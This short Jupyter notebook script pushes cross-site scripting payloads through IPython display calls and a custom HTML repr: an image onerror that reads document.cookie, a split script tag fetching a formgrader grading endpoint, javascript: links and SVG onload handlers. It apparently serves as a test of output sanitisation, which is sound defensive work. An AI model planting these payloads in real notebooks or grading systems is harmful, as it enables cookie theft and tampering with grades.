# %%
from IPython.display import HTML, Javascript, Markdown, SVG, display
evil = "<img src=x onerror=alert(document.cookie)><scr" + "ipt>fetch('/formgrader/api/grade')</scr" + "ipt>"
display(HTML(evil), Javascript("alert(1)"), Markdown(evil + "[x](javascript:alert(1))"))
display({"image/svg+xml": "<svg onload=alert(1)>", "text/latex": evil, "application/vnd.evil+json": {}}, raw=True)
# %%
class Sly:
    def _repr_html_(self):
        return "<table border='1' onmouseover=alert(1)><tr><td>" + evil
Sly()
